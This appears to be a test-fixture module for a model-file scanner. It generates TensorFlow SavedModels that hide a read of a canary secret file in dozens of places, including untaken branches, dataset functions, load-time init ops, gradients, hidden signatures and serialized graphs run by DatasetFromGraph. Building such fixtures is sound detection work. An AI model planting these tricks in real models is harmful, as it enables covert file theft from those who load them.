"""SavedModels that hide an operation: in functions of every kind, in strings, behind what load runs (reference 1.3, 2.1)."""

from __future__ import annotations

from tensorflow.core.framework import graph_pb2

from .build import (
    FLOATS,
    STRING,
    X_IN,
    Func,
    X,
    by_hand,
    const,
    definition,
    dense,
    export,
    export_v1,
    graph_of,
    model_of,
    node,
    patch,
    raw,
    tf,
    v1,
    write_model,
)
from .registry import Place, attack, fires

READS = fires("call", "reads")
SECRET = "secret.txt"


def _read(place: Place):
    return tf.io.read_file(f"{place.canary}/secret.txt")


def _hidden(id, value=SECRET, **more):
    options = {"fires": READS} | more
    return attack(id, "savedmodel", "file-read", "ReadFile", value, **options)


@_hidden("sm-hidden-untaken-branch", fires=fires("call", "opens", "secret.txt"))
def _(place: Place):
    """In a branch of a conditional that is never taken: TensorFlow folds the constant and reads all the same (2.1 fact 1)."""
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.cond(
                tf.reduce_sum(tf.abs(x)) < -1.0,
                lambda: tf.io.read_file(f"{place.canary}/secret.txt"),
                lambda: tf.constant(""),
            )
        },
    )


@_hidden("sm-hidden-taken-branch", fires=fires("call", "reads"))
def _(place: Place):
    """In the branch of a conditional that a request chooses."""
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.cond(
                tf.reduce_sum(tf.abs(x)) >= 0.0, lambda: _read(place), lambda: tf.constant("")
            )
        },
    )


@_hidden("sm-hidden-switch-case")
def _(place: Place):
    """In one of four branches of a Case."""
    quiet = [lambda: tf.constant("a"), lambda: tf.constant("b"), lambda: tf.constant("c")]
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.switch_case(tf.minimum(tf.size(x), 3), [*quiet, lambda: _read(place)])
        },
    )


@_hidden("sm-hidden-zero-iterations", fires=fires("call", "opens", "secret.txt"))
def _(place: Place):
    """In the body of a loop that runs zero times."""

    def leak(x, y):
        count = tf.size(x) * 0
        body = lambda i, s: (i + 1, tf.strings.join([s, _read(place)]))
        return {"leak": tf.while_loop(lambda i, s: i < count, body, [0, tf.constant("")])[1]}

    dense(place.path, leak)


@_hidden("sm-hidden-loop-body")
def _(place: Place):
    """In the body of a loop of three."""

    def leak(x, y):
        body = lambda i, s: (i + 1, tf.strings.join([s, _read(place)]))
        return {"leak": tf.while_loop(lambda i, s: i < 3, body, [0, tf.constant("")])[1]}

    dense(place.path, leak)


@_hidden("sm-hidden-loop-condition", fires=fires("call", "opens", "secret.txt"))
def _(place: Place):
    """In the condition of a loop: a file decides when it ends, and the prediction tells its length."""

    def leak(x, y):
        limit = lambda: tf.strings.length(tf.io.read_file(f"{place.canary}/secret.txt"))
        return {"leak": tf.while_loop(lambda i: i < limit(), lambda i: [i + 1], [0])[0]}

    dense(place.path, leak)


@_hidden("sm-hidden-map-function")
def _(place: Place):
    """In the function of a dataset's map."""
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.data.Dataset.range(1)
            .map(lambda i: _read(place))
            .reduce(tf.constant(""), lambda a, b: tf.strings.join([a, b]))
        },
    )


@_hidden("sm-hidden-filter-function", fires=fires("call", "opens", "secret.txt"))
def _(place: Place):
    """In the predicate of a dataset's filter."""
    test = lambda i: tf.strings.length(_read(place)) > 5
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.data.Dataset.range(3)
            .filter(test)
            .reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
        },
    )


@_hidden("sm-hidden-reduce-function")
def _(place: Place):
    """In the function of a dataset's reduce."""
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.data.Dataset.range(2).reduce(
                tf.constant(""), lambda a, b: tf.strings.join([a, _read(place)])
            )
        },
    )


@_hidden("sm-hidden-scan-function")
def _(place: Place):
    """In the function of a dataset's scan, inside a flat_map."""
    inner = lambda i: tf.data.Dataset.range(1).scan(
        tf.constant(0, tf.int64), lambda s, j: (s, _read(place))
    )
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.data.Dataset.range(2)
            .flat_map(inner)
            .reduce(tf.constant(""), lambda a, b: tf.strings.join([a, b]))
        },
    )


@_hidden("sm-hidden-group-by-window")
def _(place: Place):
    """In the reduce function of group_by_window, one of three function attributes of one node."""
    window = lambda key, data: data.map(lambda i: _read(place))
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.data.Dataset.range(2)
            .group_by_window(
                key_func=lambda i: tf.constant(0, tf.int64), reduce_func=window, window_size=2
            )
            .reduce(tf.constant(""), lambda a, b: tf.strings.join([a, b]))
        },
    )


@_hidden("sm-hidden-interleave")
def _(place: Place):
    """In a parallel interleave."""
    inner = lambda i: tf.data.Dataset.from_tensors(_read(place))
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.data.Dataset.range(2)
            .interleave(inner, cycle_length=2, num_parallel_calls=2)
            .reduce(tf.constant(""), lambda a, b: tf.strings.join([a, b]))
        },
    )


@_hidden("sm-hidden-generator")
def _(place: Place):
    """In the next function of a GeneratorDataset."""

    def leak(x, y):
        number = tf.TensorSpec([], tf.int64)
        start = tf.function(lambda: tf.constant(0, tf.int64)).get_concrete_function()
        following = tf.function(lambda state: _read(place)).get_concrete_function(number)
        end = tf.function(lambda state: state).get_concrete_function(number)
        data = raw.GeneratorDataset(
            init_func_other_args=[],
            next_func_other_args=[],
            finalize_func_other_args=[],
            init_func=start,
            next_func=following,
            finalize_func=end,
            output_types=[tf.string],
            output_shapes=[[]],
        )
        iterator = raw.AnonymousIteratorV2(output_types=[tf.string], output_shapes=[[]])[0]
        raw.MakeIterator(dataset=data, iterator=iterator)
        return {
            "leak": raw.IteratorGetNext(
                iterator=iterator, output_types=[tf.string], output_shapes=[[]]
            )[0]
        }

    dense(place.path, leak)


@_hidden("sm-hidden-map-fn")
def _(place: Place):
    """In tf.map_fn over the rows of the request."""
    dense(
        place.path,
        lambda x, y: {
            "leak": tf.map_fn(lambda row: _read(place), x, fn_output_signature=tf.string)
        },
    )


@_hidden("sm-hidden-vectorized")
def _(place: Place):
    """Behind seven calls, each a function of its own with an innocent name."""

    def wrap(inner, level):
        def call():
            return inner()

        call.__name__ = f"layer_{level}_normalize"
        return tf.function(call, autograph=False)

    inner = lambda: _read(place)
    for level in range(7):
        inner = wrap(inner, level)
    dense(place.path, lambda x, y: {"leak": inner()})


@_hidden("sm-hidden-second-signature", fires=fires("call", "reads", signature="health"))
def _(place: Place):
    """In a second signature that nobody documents."""
    health = tf.function(lambda: {"leak": _read(place)}, input_signature=())
    dense(place.path, more={"health": health})


@_hidden("sm-hidden-api-function", trigger="api", fires=fires("api", "reads", "debug"))
def _(place: Place):
    """In a function of the object graph that is no signature: whoever loads the model in Python can call it."""
    module = tf.Module()
    module.w = tf.Variable([1.0, 2.0, 3.0, 4.0])
    module.serve = tf.function(lambda x: {"y": x * module.w}, input_signature=(FLOATS,))
    module.debug = tf.function(lambda: _read(place), input_signature=())
    tf.saved_model.save(module, str(place.path), signatures={"serving_default": module.serve})


@_hidden("sm-hidden-py-resource", trigger="load", fires=fires("load-python", "opens", "secret.txt"))
def _(place: Place):
    """In the initialiser of a resource: both loaders run it when the model is loaded."""
    table = tf.lookup.StaticHashTable(
        tf.lookup.KeyValueTensorInitializer(tf.constant(["k"]), tf.constant(["v"])), ""
    )
    export(place.path, lambda s: {"leak": table.lookup(s)}, STRING, extra=table)

    def edit(model):
        for function in model.meta_graphs[0].graph_def.library.function:
            for inner in function.node_def:
                if inner.op == "LookupTableImportV2":
                    inner.input[2] = "read:contents:0"
                    function.node_def.extend(
                        [
                            const("path", f"{place.canary}/secret.txt"),
                            node("read", "ReadFile", ["path:output:0"]),
                        ]
                    )
                    shaped = node(
                        "shaped",
                        "Reshape",
                        ["read:contents:0", "one:output:0"],
                        T=tf.string,
                        Tshape=tf.int32,
                    )
                    function.node_def.extend([const("one", [1]), shaped])
                    inner.input[2] = "shaped:output:0"
                    break

    patch(place.path, edit)


def _init_reads(place: Place, key: str):
    """A TF1 model whose init operation puts a file into a variable that a signature returns."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        held = raw.VarHandleOp(dtype=tf.string, shape=[], shared_name="held")
        start = raw.AssignVariableOp(resource=held, value=tf.constant(""))
        v1.add_to_collection(v1.GraphKeys.INIT_OP, start)
        fill = raw.AssignVariableOp(resource=held, value=_read(place))
        leak = raw.ReadVariableOp(resource=held, dtype=tf.string)
        more = {"main_op": fill} if key == "main_op" else {}
        if key != "main_op":
            v1.add_to_collection(key, fill)
        return {"x": x}, {"y": x * 2.0, "leak": leak}, more

    export_v1(place.path, build)


@_hidden("sm-hidden-main-op", trigger="load", fires=fires("load-cpp", "opens", "secret.txt"))
def _(place: Place):
    """In the init operation, as signature __saved_model_init_op: TensorFlow Serving runs it when it loads."""
    _init_reads(place, "main_op")


@_hidden(
    "sm-hidden-collection-main-op",
    trigger="load",
    fires=fires("load-cpp", "opens", "secret.txt"),
)
def _(place: Place):
    """The same in the collection saved_model_main_op, and without the signature."""
    _init_reads(place, "saved_model_main_op")


@_hidden("sm-hidden-legacy-init-op", trigger="load", fires=fires("load-cpp", "opens", "secret.txt"))
def _(place: Place):
    """The same in the collection legacy_init_op."""
    _init_reads(place, "legacy_init_op")


@_hidden("sm-hidden-second-metagraph", fires=fires("call", "reads", tags=["serve", "gpu"]))
def _(place: Place):
    """In a second MetaGraph with other tags; the first is clean."""
    builder = v1.saved_model.Builder(str(place.path))
    for tags, leaks in ((["serve"], False), (["serve", "gpu"], True)):
        with tf.Graph().as_default(), v1.Session() as session:
            x = v1.placeholder(tf.float32, [None, 4], "x")
            variable = v1.get_variable("w", initializer=2.0, use_resource=True)
            outputs = {"y": x * variable} | ({"leak": _read(place)} if leaks else {})
            session.run(v1.global_variables_initializer())
            signature = v1.saved_model.signature_def_utils.predict_signature_def({"x": x}, outputs)
            add = builder.add_meta_graph if leaks else None
            if leaks:
                add(tags, {"serving_default": signature})
            else:
                builder.add_meta_graph_and_variables(session, tags, {"serving_default": signature})
    builder.save()


def _function(name, place, *specs):
    return definition(
        lambda *args: tf.io.read_file(f"{place.canary}/secret.txt"), *specs, name=name
    )


@_hidden("sm-hidden-function-as-op")
def _(place: Place):
    """A node whose operation is the name of a library function, not PartitionedCall (2.1 fact 5)."""
    by_hand(
        place.path,
        [node("y", "LayerNorm", [])],
        ("y", tf.string, []),
        _function("LayerNorm", place),
    )


@_hidden("sm-hidden-partitioned-call")
def _(place: Place):
    """By PartitionedCall in the main graph of a model without an object graph."""
    call = node("y", "PartitionedCall", [], Tin=[], Tout=[tf.string], f=Func("normalize"))
    call.attr["Tin"].list.SetInParent()
    by_hand(place.path, [call], ("y", tf.string, []), _function("normalize", place))


@_hidden("sm-hidden-nested-name-attr-list", fires=None)
def _(place: Place):
    """A function is named inside the attributes of a NameAttrList: PartitionedCall f=outer[f=inner] with a placeholder attribute."""
    outer = definition(lambda: tf.constant(""), name="outer")[0]
    del outer.node_def[:]
    outer.attr.clear()
    inner = outer.node_def.add(name="call", op="PartitionedCall")
    inner.attr["f"].placeholder = "g"
    inner.attr["Tin"].list.SetInParent()
    inner.attr["Tout"].list.type.append(tf.string.as_datatype_enum)
    outer.signature.attr.add(name="g", type="func")
    key = outer.signature.output_arg[0].name
    outer.ret[key] = "call:output:0"
    call = node(
        "y", "PartitionedCall", [], Tin=[], Tout=[tf.string], f=Func("outer", g=Func("inner"))
    )
    by_hand(place.path, [call], ("y", tf.string, []), [outer, *_function("inner", place)])


@_hidden("sm-hidden-symbolic-gradient", fires=fires("load-cpp-call", "opens", "secret.txt"))
def _(place: Place):
    """In the gradient of a function, which library.gradient names and SymbolicGradient calls (2.1 fact 5)."""
    forward = definition(lambda x: tf.identity(x), tf.TensorSpec([], tf.float32), name="forward")
    backward = definition(
        lambda x, dy: (
            tf.strings.to_number(tf.strings.substr(_read_text(place), 0, 0) + "1") * dy
            + tf.cast(tf.strings.length(tf.io.read_file(f"{place.canary}/secret.txt")), tf.float32)
        ),
        tf.TensorSpec([], tf.float32),
        tf.TensorSpec([], tf.float32),
        name="backward",
    )
    nodes = [
        const("one", 1.0),
        node(
            "y",
            "SymbolicGradient",
            ["one", "one"],
            Tin=[tf.float32, tf.float32],
            Tout=[tf.float32],
            f=Func("forward"),
        ),
    ]
    model = model_of([X, *nodes], X_IN, {"y": ("y:0", tf.float32, [])}, [*forward, *backward])
    model.meta_graphs[0].graph_def.library.gradient.add(
        function_name="forward", gradient_func="backward"
    )
    write_model(place.path, model)


def _read_text(place):
    return tf.io.read_file(f"{place.canary}/secret.txt")


@_hidden("sm-hidden-api-implements", fires=READS)
def _(place: Place):
    """An uncalled function with the same api_implements as the one that is called: grappler swaps them (2.1 fact 5)."""
    shown = definition(lambda: tf.constant("nothing"), name="shown")
    hidden = _function("hidden", place)
    for function, device in ((shown[0], "GPU"), (hidden[0], "CPU")):
        function.attr["api_implements"].s = b"lookup_v7"
        function.attr["api_preferred_device"].s = device.encode()
    if hidden[0].signature.output_arg[0].name != shown[0].signature.output_arg[0].name:
        old, new = hidden[0].signature.output_arg[0].name, shown[0].signature.output_arg[0].name
        hidden[0].ret[new] = hidden[0].ret[old]
        del hidden[0].ret[old]
        hidden[0].signature.output_arg[0].name = new
    call = node(
        "called", "PartitionedCall", [], "/device:CPU:0", Tin=[], Tout=[tf.string], f=Func("shown")
    )
    # Grappler leaves graphs of fewer than four nodes alone.
    chain = [
        node(f"i{n}", "Identity", [f"i{n - 1}" if n else "called"], T=tf.string) for n in range(4)
    ]
    last = node("y", "Identity", ["i3"], T=tf.string)
    by_hand(place.path, [call, *chain, last], ("y", tf.string, []), [*shown, *hidden])


def _dataset_graph(place: Place) -> graph_pb2.GraphDef:
    """A GraphDef that makes a dataset of lines of the secret."""
    return graph_of(
        lambda: tf.identity(
            raw.TextLineDataset(
                filenames=[f"{place.canary}/secret.txt"], compression_type="", buffer_size=0
            ),
            name="made",
        )
    )


def from_graph(graph_def) -> dict:
    """Reads what a graph in a string makes. In a function: at the top, grappler folds the dataset and fails."""
    from tensorflow.python.data.ops.dataset_ops import _VariantDataset

    spec = tf.TensorSpec([], tf.string)
    data = tf.data.Dataset.range(1).flat_map(
        lambda i: _VariantDataset(raw.DatasetFromGraph(graph_def=graph_def), spec)
    )
    return {"leak": data.reduce(tf.constant(""), lambda a, b: tf.strings.join([a, b]))}


def _from_graph(graph_def) -> dict:
    dataset = raw.DatasetFromGraph(graph_def=graph_def)
    iterator = raw.AnonymousIteratorV2(output_types=[tf.string], output_shapes=[[]])[0]
    raw.MakeIterator(dataset=dataset, iterator=iterator)
    return {
        "leak": raw.IteratorGetNext(
            iterator=iterator, output_types=[tf.string], output_shapes=[[]]
        )[0]
    }


def _with_retval(graph: graph_pb2.GraphDef, tensor="made") -> bytes:
    graph.node.append(node("retval", "_Retval", [tensor], T=tf.variant, index=0))
    return graph.SerializeToString(deterministic=True)


@attack(
    "sm-dataset-from-graph",
    "savedmodel",
    "code-execution",
    ["DatasetFromGraph", "TextLineDataset"],
    SECRET,
    also=["file-read"],
    fires=None,
)
def _(place: Place):
    """A whole graph in a string, executed by DatasetFromGraph (reference 1.3)."""
    dense(place.path, lambda x, y: _from_graph(tf.constant(_with_retval(_dataset_graph(place)))))


@attack(
    "sm-dataset-from-graph-mapped",
    "savedmodel",
    "code-execution",
    ["DatasetFromGraph", "TextLineDataset"],
    SECRET,
    also=["file-read"],
    fires=READS,
)
def _(place: Place):
    """The same in the function of a dataset."""
    dense(place.path, lambda x, y: from_graph(tf.constant(_with_retval(_dataset_graph(place)))))


@attack(
    "sm-dataset-from-graph-nested",
    "savedmodel",
    "code-execution",
    ["DatasetFromGraph", "TextLineDataset"],
    SECRET,
    also=["file-read"],
    fires=READS,
)
def _(place: Place):
    """A graph in a string in a graph in a string."""
    inner = _with_retval(_dataset_graph(place))
    outer = _with_retval(
        graph_of(
            lambda: tf.identity(raw.DatasetFromGraph(graph_def=tf.constant(inner)), name="made")
        )
    )
    dense(place.path, lambda x, y: from_graph(tf.constant(outer)))


@attack(
    "sm-dataset-from-graph-variable",
    "savedmodel",
    "code-execution",
    "DatasetFromGraph",
    fires=READS,
)
def _(place: Place):
    """The graph is the value of a string variable, in the checkpoint."""
    held = tf.Variable(_with_retval(_dataset_graph(place)))
    export(place.path, lambda x: {"y": x, **_from_graph(held)}, FLOATS, extra=held)


@attack(
    "sm-dataset-from-graph-request",
    "savedmodel",
    "code-execution",
    "DatasetFromGraph",
    ["request", "signature", "input"],
)
def _(place: Place):
    """Whoever sends the request sends the program."""
    export(place.path, lambda s: _from_graph(s), STRING)


@attack(
    "sm-dataset-from-graph-split", "savedmodel", "code-execution", ["DatasetFromGraph"], fires=READS
)
def _(place: Place):
    """The graph is cut into two strings, which neither parse alone, and joined."""
    graph = _with_retval(_dataset_graph(place))
    dense(
        place.path,
        lambda x, y: from_graph(
            tf.strings.join([tf.constant(graph[:31]), tf.constant(graph[31:])])
        ),
    )


@_hidden("sm-hidden-batch-function")
def _(place: Place):
    """In the function of BatchFunction, as serving batches requests."""

    @tf.nondifferentiable_batch_function(1, 1, 1)
    def batched(a):
        return tf.fill(tf.shape(a)[:1], _read(place))

    dense(place.path, lambda x, y: {"leak": batched(tf.expand_dims(tf.reduce_sum(x), 0))})


@_hidden("sm-hidden-tf1-cond")
def _(place: Place):
    """Between Switch and Merge of a TF1 conditional."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        data, pred = tf.constant(f"{place.canary}/secret.txt"), tf.reduce_sum(x) > -1e30
        no, yes = raw.Switch(data=data, pred=pred)
        return {"x": x}, {
            "leak": raw.Merge(inputs=[tf.identity(no), raw.ReadFile(filename=yes)])[0]
        }

    export_v1(place.path, build)


@_hidden("sm-hidden-control-only", fires=None)
def _(place: Place):
    """Reached by a control edge only: nothing of it is in an output."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        path = v1.placeholder_with_default(f"{place.canary}/secret.txt", [])
        with tf.control_dependencies([raw.ReadFile(filename=path)]):
            return {"x": x}, {"y": tf.identity(x)}

    export_v1(place.path, build)


@_hidden("sm-hidden-placeholder-default")
def _(place: Place):
    """The path is the default of a placeholder that no signature feeds."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        return {"x": x}, {
            "leak": raw.ReadFile(
                filename=v1.placeholder_with_default(f"{place.canary}/secret.txt", [])
            )
        }

    export_v1(place.path, build)


@_hidden("sm-hidden-signature-default", ["secret.txt", "request"], fires=None)
def _(place: Place):
    """The signature gives the path a default value, so that every request reads it."""

    def build():
        s = v1.placeholder(tf.string, [], "s")
        return {"s": s}, {"leak": raw.ReadFile(filename=s)}

    export_v1(place.path, build)
    patch(
        place.path,
        lambda m: (
            m.meta_graphs[0]
            .signature_def["serving_default"]
            .defaults["s"]
            .CopyFrom(tf.make_tensor_proto(f"{place.canary}/secret.txt"))
        ),
    )


@_hidden("sm-hidden-xla-launch", fires=None)
def _(place: Place):
    """In the function of an XlaLaunch."""
    call = node("y", "XlaLaunch", [], Tresults=[tf.string], function=Func("cluster_0"))
    for key in ("Tconstants", "Targs"):
        call.attr[key].list.SetInParent()
    call.attr["Nresources"].i = 0
    by_hand(place.path, [call], ("y", tf.string, []), _function("cluster_0", place))


@_hidden("sm-hidden-one-shot-iterator", fires=fires("load-cpp-call", "reads"))
def _(place: Place):
    """In the dataset factory of a TF1 one-shot iterator."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        data = v1.data.Dataset.range(1).map(lambda i: _read(place))
        return {"x": x}, {"leak": v1.data.make_one_shot_iterator(data).get_next()}

    export_v1(place.path, build)


@_hidden("sm-hidden-custom-gradient", trigger="api", fires=None)
def _(place: Place):
    """In a custom gradient: the prediction is clean, and fine-tuning reads."""

    @tf.custom_gradient
    def scale(x):
        return x * 2.0, lambda dy: dy * tf.cast(tf.strings.length(_read(place)), tf.float32)

    dense(place.path, lambda x, y: {"scaled": scale(x)})


@_hidden("sm-hidden-many-clean-functions", fires=READS)
def _(place: Place):
    """Among 400 clean functions."""
    quiet = [
        definition(lambda x, k=k: x + float(k), tf.TensorSpec([], tf.float32), name=f"f{k}")[0]
        for k in range(400)
    ]
    call = node("y", "StatefulPartitionedCall", [], Tin=[], Tout=[tf.string], f=Func("f200x"))
    functions = [*quiet[:200], *_function("f200x", place), *quiet[200:]]
    by_hand(place.path, [call], ("y", tf.string, []), functions)
